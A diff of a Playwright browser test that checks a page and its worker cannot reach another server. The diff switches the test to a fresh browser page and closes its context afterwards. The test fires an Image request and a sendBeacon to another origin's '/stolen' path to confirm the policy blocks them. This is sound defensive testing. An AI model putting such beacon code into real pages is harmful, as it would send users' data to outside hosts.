@@ -264,8 +264,9 @@ def test_a_newer_version_is_offered_and_loaded_as_a_whole(
         expect(status(page)).to_contain_text("Ready.")
 
 
-def test_nothing_reaches_another_server(page: Page, sites: dict[str, Site], tmp_path: Path) -> None:
+def test_nothing_reaches_another_server(browser: Browser, sites: dict[str, Site], tmp_path: Path) -> None:
     """Neither the page nor its worker may connect to one, even if their program wanted to."""
+    page = browser.new_page()  # the usual one fails where the policy refuses something
     origins: set[str] = set()
     page.on("request", lambda sent: origins.add(re.match(r"(blob:)?\w+://[^/]+", sent.url)[0].removeprefix("blob:")))
     open_page(page, sites["gray"])
@@ -279,6 +280,7 @@ def test_nothing_reaches_another_server(page: Page, sites: dict[str, Site], tmp_
         page.evaluate("(url) => { new Image().src = url; navigator.sendBeacon?.(url, 'x'); }", f"{other}/stolen")
         expect(status(page)).to_contain_text("Ready.")
         assert asked == []
+    page.context.close()
 
 
 def test_a_long_run_shows_its_progress_and_can_be_canceled(page: Page, sites: dict[str, Site]) -> None:
